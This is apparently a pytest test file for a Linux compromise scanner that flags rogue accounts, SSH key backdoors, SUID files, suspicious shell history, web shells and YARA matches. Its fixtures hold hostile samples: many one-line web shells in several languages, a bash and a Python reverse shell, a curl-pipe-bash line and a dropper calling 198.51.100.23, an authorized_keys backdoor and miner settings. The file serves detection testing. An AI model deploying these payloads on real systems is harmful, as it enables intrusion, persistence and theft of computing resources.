# SPDX-License-Identifier: AGPL-3.0-or-later
"""accounts, SSH, set-user-id programs, histories, programs in odd places, web shells, YARA."""

import struct
import time
from pathlib import Path

import pytest
from conftest import TreeMaker
from hypothesis import given
from hypothesis import strategies as st

from clean_room_analysis.checks.accounts import Accounts
from clean_room_analysis.checks.shell_history import ShellHistory
from clean_room_analysis.checks.ssh import Ssh, fingerprint
from clean_room_analysis.checks.suid import Suid, dangerous_capabilities
from clean_room_analysis.checks.temporary_executables import TemporaryExecutables
from clean_room_analysis.checks.web_shell import WebShell, judge
from clean_room_analysis.checks.yara import Yara
from clean_room_analysis.rule_bundle import compile_rules
from clean_room_analysis.model import Severity, TimelineEvent

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFh"
OTHER = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJi"


def test_accounts(plain: TreeMaker) -> None:
    plain.file(
        "/etc/passwd",
        "root:x:0:0::/root:/bin/bash\nbin:x:1:1::/bin:/sbin/nologin\nsysadm:x:0:0::/x:/bin/bash\nopen::1001:1001::/home/open:/bin/bash\nnot a line\n",
    )
    plain.file("/etc/passwd-", "root:x:0:0::/root:/bin/bash\nbin:x:1:1::/bin:/sbin/nologin\nopen::1001:1001::/home/open:/bin/bash\n")
    plain.file("/etc/shadow", "root:*:1::::::\nfree::1::::::\n")
    plain.file("/etc/sudoers.d/90-cloud-init-users", "ec2-user ALL=(ALL) NOPASSWD:ALL\n")
    plain.file("/etc/sudoers.d/x", "evil ALL=(ALL) NOPASSWD: ALL\n")
    plain.file("/etc/pam.d/sshd", "auth optional pam_exec.so /usr/bin/x\nauth required pam_unix.so\nauth sufficient /lib/x.so\n")
    assert {(one.title, one.severity) for one in plain.findings(Accounts())} == {
        ("A second account is superuser: sysadm", Severity.CRITICAL),
        ("Account open has no password at all", Severity.HIGH),
        ("Account free can log in without a password", Severity.HIGH),
        ("evil may become root without a password", Severity.HIGH),
        ("A program runs at every log-in (PAM)", Severity.HIGH),
        ("Log-in uses a PAM module from an odd place", Severity.HIGH),
        ("Account sysadm was made in the last change of accounts", Severity.LOW),
    }


def test_password_hashes_never_reach_a_finding(plain: TreeMaker) -> None:
    plain.file("/etc/passwd", "twin:$6$salt$secret:0:0::/x:/bin/bash\n")
    plain.file("/etc/shadow", "twin:$6$salt$secret:1::::::\nfree::$6$salt$secret::::::\n")
    found = plain.findings(Accounts())
    assert {one.severity for one in found} == {Severity.CRITICAL, Severity.HIGH}
    assert len(found) == 3 and not any("secret" in one.evidence + one.title for one in found)


def test_ssh_keys(plain: TreeMaker) -> None:
    forced = 'no-pty,command="echo \'Please login as the user \\"ec2-user\\"\'"'
    plain.file("/root/.ssh/authorized_keys", f"# note\n{forced} {KEY} launch\n{OTHER} kali\n")
    plain.file("/home/ec2-user/.ssh/authorized_keys", f"{KEY} launch\n{OTHER} added\n")
    plain.file("/var/lib/sysadm/.ssh/authorized_keys", f"{OTHER}\n")
    plain.file("/home/a/.ssh/authorized_keys2", f'command="/tmp/x" {KEY}\n')
    found = plain.findings(Ssh())
    assert {(one.path, one.severity, one.evidence.split(":")[0]) for one in found} == {
        ("/root/.ssh/authorized_keys", Severity.HIGH, "line 3"),
        ("/home/ec2-user/.ssh/authorized_keys", Severity.INFORMATIONAL, "line 1"),
        ("/home/ec2-user/.ssh/authorized_keys", Severity.LOW, "line 2"),
        ("/var/lib/sysadm/.ssh/authorized_keys", Severity.HIGH, "line 1"),
        ("/home/a/.ssh/authorized_keys2", Severity.HIGH, "line 1"),
    }
    assert all(one.attack[0] == "T1098.004" for one in found)


def test_fingerprints_are_those_of_ssh_keygen() -> None:
    assert fingerprint(KEY.split()[1]) == "SHA256:TGIk2D1DFZBKmjWssB2+Qdiona/OUK1TSuWAAHMK+n0"
    assert fingerprint("not*base64") is None


@pytest.mark.parametrize(
    ("line", "weak"),
    [
        ("PermitRootLogin yes", True),
        ("PermitRootLogin prohibit-password", False),
        ("PasswordAuthentication yes", True),
        ("#PasswordAuthentication yes", False),
        ("AuthorizedKeysFile .ssh/authorized_keys", False),
        ("AuthorizedKeysFile /usr/share/keys/%u", True),
        ("AuthorizedKeysCommand none", False),
        ("AuthorizedKeysCommand /opt/aws/bin/eic_run_authorized_keys %u %f", False),
        ("AuthorizedKeysCommand /usr/bin/x", True),
        ("permitemptypasswords=yes", True),
    ],
)
def test_ssh_server_settings(plain: TreeMaker, line: str, weak: bool) -> None:
    plain.file("/etc/ssh/sshd_config", f"UsePAM yes\n{line}\n")
    assert bool(plain.findings(Ssh())) is weak


def test_suid(plain: TreeMaker) -> None:
    plain.file("/usr/bin/sudo", b"\x7fELF", 0o4755)
    plain.file("/usr/local/bin/.helper", b"\x7fELF", 0o4755)
    plain.file("/tmp/sudo", b"\x7fELF", 0o2755)
    plain.file("/usr/bin/odd", b"\x7fELF", 0o4755)
    found = {one.path: one for one in plain.findings(Suid())}
    assert set(found) == {"/usr/local/bin/.helper", "/tmp/sudo", "/usr/bin/odd"}
    assert found["/tmp/sudo"].severity is Severity.HIGH
    assert all(one.sha256 is not None and len(one.sha256) == 64 for one in found.values())
    owner = (plain.root / "usr/bin/odd").stat().st_uid
    assert found["/usr/bin/odd"].severity is (Severity.HIGH if owner == 0 else Severity.MEDIUM)


@given(st.binary(max_size=40))
def test_any_capability_attribute_is_read(raw: bytes) -> None:
    assert all(name.startswith("cap_") for name in dangerous_capabilities(raw))


def test_capabilities_as_good_as_root_are_named() -> None:
    revision_2 = struct.pack("<IIIII", 0x02000001, 1 << 7 | 1 << 13, 0, 1 << (39 - 32), 0)
    assert dangerous_capabilities(revision_2) == ["cap_setuid", "cap_bpf"]


def test_shell_history(plain: TreeMaker) -> None:
    plain.file("/root/.bash_history", "ls\n#1795500000\ncurl http://198.51.100.23/x | bash\nunset HISTFILE\n")
    plain.file("/home/a/.zsh_history", ": 1795500001:0;df -h\n")
    plain.link("/home/b/.bash_history", "/dev/null")
    results = plain.results(ShellHistory())
    events = [one for one in results if isinstance(one, TimelineEvent)]
    assert [(one.at, one.message) for one in events] == [
        (1795500000 * 10**9, ".bash_history: curl http://198.51.100.23/x | bash"),
        (1795500001 * 10**9, ".zsh_history: df -h"),
    ]
    typed, linked = plain.findings(ShellHistory())
    assert (linked.path, linked.severity, linked.attack) == ("/home/b/.bash_history", Severity.HIGH, ("T1070.003",))
    assert typed.evidence == "  line 1: ls\n> line 3: curl http://198.51.100.23/x | bash\n> line 4: unset HISTFILE"
    assert {"T1059.004", "T1105", "T1070.003"} <= set(typed.attack)


def test_programs_in_odd_places(plain: TreeMaker) -> None:
    plain.file("/tmp/.font-unix/kworkerd", b"\x7fELF", 0o755)
    plain.file("/tmp/notes.txt", "text")
    plain.file("/var/tmp/run.sh", "#!/bin/sh\n", 0o755)
    plain.file("/dev/.udev.tab", "x")
    plain.file("/usr/sbin/kworkerd", b"\x7fELF", 0o755)
    plain.file("/usr/lib/.cache2/x", b"\x7fELF", 0o644)
    plain.file("/home/a/project/.git/hooks/pre-commit", "#!/bin/sh\n", 0o755)
    found = {one.path: one for one in plain.findings(TemporaryExecutables())}
    assert {path: one.severity for path, one in found.items()} == {
        "/tmp/.font-unix/kworkerd": Severity.HIGH,
        "/var/tmp/run.sh": Severity.MEDIUM,
        "/dev/.udev.tab": Severity.HIGH,
        "/usr/sbin/kworkerd": Severity.HIGH,
        "/usr/lib/.cache2/x": Severity.HIGH,
    }
    assert "T1036.004" in found["/tmp/.font-unix/kworkerd"].attack


@pytest.mark.parametrize(
    "content",
    [
        "<?php @eval($_POST['x']);",
        "<?php system($_GET[0]); ?>",
        "<?php $_REQUEST['a']($_REQUEST['b']);",
        "<?php eval(gzinflate(base64_decode('x')));",
        "<?php echo `$_GET[c]`;",
    ],
)
def test_web_shells(plain: TreeMaker, content: str) -> None:
    plain.file("/www/html/a.php", content)
    (finding,) = plain.findings(WebShell(), "/srv")
    assert finding.path == "/www/html/a.php" and finding.attack == ("T1505.003",)
    assert finding.severity in (Severity.CRITICAL, Severity.HIGH)


def test_ordinary_scripts_are_no_web_shells(plain: TreeMaker) -> None:
    plain.file("/www/html/index.php", "<?php echo htmlspecialchars($_GET['name']); $result = $db->exec($sql);")
    plain.file("/www/html/.htaccess", "Options -Indexes\nAddHandler php-script .php\n")
    plain.file("/www/html/uploads/a.php", "<?php echo 1;")
    plain.file("/www/html/img/.htaccess", "AddType application/x-httpd-php .jpg\n")
    assert {one.path for one in plain.findings(WebShell())} == {"/www/html/uploads/a.php", "/www/html/img/.htaccess"}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.php", "<?php $a = $_POST['x']; $b = trim($a); system($b . ' 2>&1'); ?>"),
        ("a.php", "<?php $k = 'as'.'sert'; $k($_REQUEST['c']);"),
        ("a.php", "<?php array_map('assert', (array)$_POST['c']);"),
        ("a.php", '<?php $_=("!"^"@").("*"^"Y"); ${$_}[0]($x);'),
        ("a.php", "<? move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); ?>"),
        ("a.php", "<?php /* x */ eval/**/(gzinflate(base64_decode('" + "A" * 300 + "')));"),
        ("a.php", "<?php $w = substr($_SERVER['HTTP_REFERER'], -7, -4); forward_static_call_array($w.'ert', array($_REQUEST['p']));"),
        ("a.php", "<?php copy($HTTP_POST_FILES['f']['tmp_name'], $_POST['to']);"),
        ("a.php", "<?php $c = $a . 'sert'; $c(getallheaders()['Demo']);"),
        ("a.phtml", "<?php include($_GET['page']);"),
        ("a.jsp", '<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>'),
        ("a.jsp", '<% \\u0052untime.getRuntime().exec(request.getParameter("c")); %>'),
        (
            "a.jspx",
            "<jsp:root><jsp:scriptlet>new U(this.getClass().getClassLoader()).defineClass(b); request.getReader();</jsp:scriptlet></jsp:root>",
        ),
        ("a.asp", '<%eval request("x")%>'),
        ("a.asp", "<% c = Session(1) : Execute c %>"),
        ("a.asp", "<%@ Language=JScript %><% var _c = Session(1); eval(_c) %>"),
        ("a.asp", '<% Set s = Server.CreateObject("WScript.Shell") : s.Exec(Request.Form("c")) %>'),
        ("a.aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>'),
        ("a.ashx", '<%@ WebHandler Language="C#" %> System.Reflection.Assembly.Load(Convert.FromBase64String(context.Request["x"]));'),
        ("cgi-bin/a.py", "import cgi, os\nprint(os.popen(cgi.FieldStorage().getvalue('c')).read())\n"),
        ("a.js", "const e = require('child_process'); require('http').createServer((req, res) => e.exec(req.url.slice(1)))"),
        (
            "a.mjs",
            "import cp from 'node:child_process';\napp.get('/', (req, res) => { const { c } = req.query; cp.exec(c, (e, o) => res.send(o)); });",
        ),
        ("a.js", "app.post('/x', (req, res) => { const code = req.body.c; res.send(String(eval(code))); }); module.exports = app;"),
        (
            "a.js",
            "var net = require('net'), sh = require('child_process').spawn('/bin/sh', []); var c = new net.Socket(); c.connect(1, 'h');",
        ),
        (
            "a.py",
            "from flask import request\nimport subprocess\ndef x():\n    c = request.args.get('c')\n    return subprocess.check_output(c, shell=True)\n",
        ),
        ("a.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
        ("a.py", "import socket, os, pty\ns = socket.socket()\ns.connect(('h', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('sh')\n"),
        ("cgi-bin/a.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nprint `$c`;\n"),
        ("cgi-bin/a.cgi", "#!/bin/sh\neval $QUERY_STRING\n"),
        ("cgi-bin/a.cgi", "#!/usr/bin/python3\nimport os\nprint(os.popen(os.environ['QUERY_STRING']).read())\n"),
        ("cgi-bin/a.sh", "#!/usr/bin/env php\n<?php system($_GET['c']);"),
        ("a.sh", "<?php eval($_POST['c']);"),
        ("a.php", "<?php array_map('call_user_func', $_POST['f'], $_POST['a']);"),
        ("a.php", "<?php array_intersect_ukey(['a' => 1], [$_POST['c'] => 1], 'system');"),
        ("a.php", "<?php $f = chr(115) . chr(121) . chr(115) . chr(116) . chr(101) . chr(109); $f('id');"),
        ("a.cfm", '<cfexecute name="cmd.exe" arguments="/c #form.cmd#" timeout="5"></cfexecute>'),
    ],
)
def test_web_shells_of_each_language(plain: TreeMaker, name: str, content: str) -> None:
    plain.file(f"/var/www/html/{name}", content)
    (finding,) = plain.findings(WebShell())
    assert finding.severity in (Severity.CRITICAL, Severity.HIGH) and finding.attack == ("T1505.003",) and finding.sha256


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("post.php", "<?php\n/** Renames `$_POST` data, eval($_POST) is not used */\nfunction f() { return 1; }\n"),
        ("sql.php", "<?php $q = 'SELECT `a` FROM `' . escape($_POST['t']) . '` WHERE `b` = 1'; $db->exec($q);"),
        ("module.graphic.gif.php", "<?php\nclass getid3_gif {}\n"),
        ("Import/Upload/UploadNoplugin.php", "<?php\nclass UploadNoplugin {}\n"),
        ("wp-content/uploads/index.php", "<?php\n// Silence is golden.\n"),
        ("map.php", "<?php $ids = array_map('intval', $_POST['ids']); assert(is_array($_POST['ids']));"),
        ("jsp/date.jsp", "<%@ page import='java.util.*' %><%= new Date() %> <%= request.getParameter(\"n\") == null %>"),
        ("a.asp", '<% Response.Write Server.HTMLEncode(Request("name")) %>'),
        ("app.js", "app.get('/', function (req, res) { res.send(req.query.name); });"),
        ("node_modules/x/a.js", "require('child_process').exec(req.query.c)"),
        (
            "app.py",
            "from flask import request\nimport subprocess\ndef version():\n    name = request.args.get('n')\n    return subprocess.run(['git', 'log'], check=True).stdout + name\n",
        ),
        (
            "server.js",
            "const { execSync } = require('child_process'); const v = execSync('git rev-parse HEAD'); const m = /^a/.exec(req.url); app.get('/', (req, res) => res.send(v));",
        ),
        ("cgi-bin/env.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint $q->header, $q->param('name');\n"),
        # Drupal's forms of these.
        ("rebuild.php", "<?php $r = $_GET['token']; array_map('call_user_func', array_filter($caches, 'is_callable'));"),
        ("Registry.php", "<?php $system = array_intersect_key($modules, ['system' => TRUE]); array_map($f, ['exec' => 1]);"),
        ("ImageTest.php", "<?php assert_contains(chr(137) . chr(80) . chr(78) . chr(71) . chr(13) . chr(10) . chr(26) . chr(10), $raw);"),
        ("scripts/dump.sh", "#!/usr/bin/env php\n<?php\n$_SERVER['HTTP_HOST'] = 'default';\n$cmd = 'index.php';\nprint `date`; $cmd\n"),
        ("scripts/run-tests.sh", "<?php\n$_SERVER['HTTP_USER_AGENT'] = 'console';\n$php = $(x); eval $x\n"),
        ("caps.asp", "<% Response.Write(Request.ServerVariables(1)) ' these tags execute _before_ those %>"),
        ("index.cfm", '<cfquery name="q" datasource="shop">select 1</cfquery><form action="a.cfm"></form>'),
    ],
)
def test_honest_pages_are_no_web_shells(plain: TreeMaker, name: str, content: str) -> None:
    plain.file(f"/var/www/html/{name}", content)
    assert plain.findings(WebShell()) == []


@pytest.mark.parametrize(
    "unit",
    [
        "$a=",
        "`",
        "chr(1).",
        "'a'^",
        "eval(",
        "$_POST[",
        "<?php ",
        "/*",
        "\\\\x41",
        "$a[0].",
        '"\\\\',
        "(",
        "$O0O0=",
        "os.system(",
        "a=b\\n",
        "exec(",
        "<cffile ",
        "socket.socket(",
    ],
)
def test_no_script_takes_long(unit: str) -> None:
    began = time.process_time()
    judge("/var/www/a.php", "<?php $_GET;" + unit * (60_000 // len(unit)))
    judge("/var/www/a.jsp", "<% request;" + unit * (60_000 // len(unit)))
    for name, start in (
        ("a.py", "subprocess request.args os.popen("),
        ("a.js", "child_process req.query exec("),
        ("a.pl", "param( Socket"),
        ("a.cfm", "form. <cffile "),
    ):
        judge(f"/var/www/html/{name}", start + unit * (60_000 // len(unit)))
    assert time.process_time() - began < 10


@pytest.mark.parametrize(
    ("options", "path", "severity"),
    [
        ('command="/bin/bash"', "/root", Severity.HIGH),
        ('no-pty,command="/usr/local/bin/backup"', "/root", Severity.HIGH),
        ('restrict,Command="/usr/bin/whatever"', "/var/lib/x", Severity.HIGH),
        ('command="exec python3 -i"', "/home/a", Severity.MEDIUM),
        ('command="/usr/bin/rrsync /data"', "/home/a", Severity.LOW),
        ("command=\"/bin/sh # echo 'Please login as the user x'\"", "/root", Severity.HIGH),
        ('environment="LD_PRELOAD=/x.so"', "/home/a", Severity.HIGH),
    ],
)
def test_commands_tied_to_keys_count_whatever_they_run(plain: TreeMaker, options: str, path: str, severity: Severity) -> None:
    plain.file(f"{path}/.ssh/authorized_keys", f"{options} {KEY} x\n")
    assert [one.severity for one in plain.findings(Ssh())] == [severity]


def test_clean_programs_in_places_that_look_odd(plain: TreeMaker) -> None:
    plain.file("/usr/lib/modules/6.1.0/kernel/drivers/watchdog/watchdog.ko", b"\x7fELF", 0o644)
    plain.file("/usr/lib/modules/6.1.0/kernel/fs/jbd2/jbd2.ko", b"\x7fELF", 0o644)
    plain.file("/usr/sbin/watchdog", b"\x7fELF", 0o755)
    plain.file("/usr/bin/migration", b"\x7fELF", 0o755)
    plain.file("/srv/app/.husky/_/pre-commit", "#!/bin/sh\n", 0o755)
    plain.file("/opt/tool/.scripts/run.sh", "#!/bin/sh\n", 0o755)
    assert [one.severity for one in plain.findings(TemporaryExecutables())] == [Severity.LOW]


def test_names_of_blanks_and_dots_and_the_test_virus(plain: TreeMaker) -> None:
    plain.file("/usr/lib/.. /notes", "text")
    plain.file("/var/tmp/.../x.txt", "text")
    plain.file("/home/a/eicar.com", b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
    assert {(one.path, one.severity) for one in plain.findings(TemporaryExecutables())} == {
        ("/usr/lib/.. /notes", Severity.HIGH),
        ("/var/tmp/.../x.txt", Severity.HIGH),
        ("/home/a/eicar.com", Severity.MEDIUM),
    }


@pytest.mark.parametrize(
    ("rule", "content"),
    [
        ("coin_miner", b"\x7fELF....stratum+tcp://pool.example:3333 xmrig donate-level"),
        ("reverse_shell_script", b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n"),
        ("php_web_shell", b"<?php @eval(base64_decode($_POST['x']));"),
        ("script_inside_picture", b"GIF89a....<?php system('id');"),
        ("ssh_key_backdoor_script", b"#!/bin/sh\necho 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ' >> /root/.ssh/authorized_keys\n"),
        ("dropper_script", b"#!/bin/sh\ncurl -o /tmp/x http://198.51.100.23/x\nchmod +x /tmp/x\nsetenforce 0\n"),
        (
            "ld_preload_rootkit",
            b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x03\0\x3e\0" + b"\0" * 60 + b"/etc/ld.so.preload dlsym readdir64 fopen64",
        ),
        ("packed_elf", b"\x7fELF" + b"\0" * 100 + b"UPX!"),
        ("eicar_test_string", b"padding " * 40 + b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
        ("coin_miner", b"#!/bin/sh\n./sys -o stratum+ssl://198.51.100.9:443 -u x\n"),
        ("coin_miner_settings", b'{"donate-level": 0, "pools": [{"algo": "rx/0", "url": "198.51.100.9:3333", "user": "x"}]}'),
        ("database_function_shell", b"\x7fELF" + b"\0" * 100 + b"sys_exec sys_eval"),
    ],
)
def test_each_yara_rule_matches_what_it_is_for(plain: TreeMaker, rule: str, content: bytes) -> None:
    plain.file("/x", content)
    plain.file("/ordinary", b"#!/bin/sh\necho stratum\n")
    (finding,) = plain.findings(Yara())
    assert (finding.path, finding.rule) == ("/x", rule)
    assert finding.attack and finding.sha256 and finding.evidence


def test_every_yara_rule_is_tested_and_says_what_the_report_needs(tmp_path: Path) -> None:
    rules = {rule.identifier: dict(rule.metadata) for rule in compile_rules().rules}
    tested = {
        mark.args[1][index][0] for mark in test_each_yara_rule_matches_what_it_is_for.pytestmark for index in range(len(mark.args[1]))
    }
    assert set(rules) == tested
    for meta in rules.values():
        assert Severity(str(meta["severity"])) and str(meta["attack"]).startswith("T") and meta["description"]
    with pytest.raises(FileNotFoundError, match="not whole"):
        compile_rules(str(tmp_path))
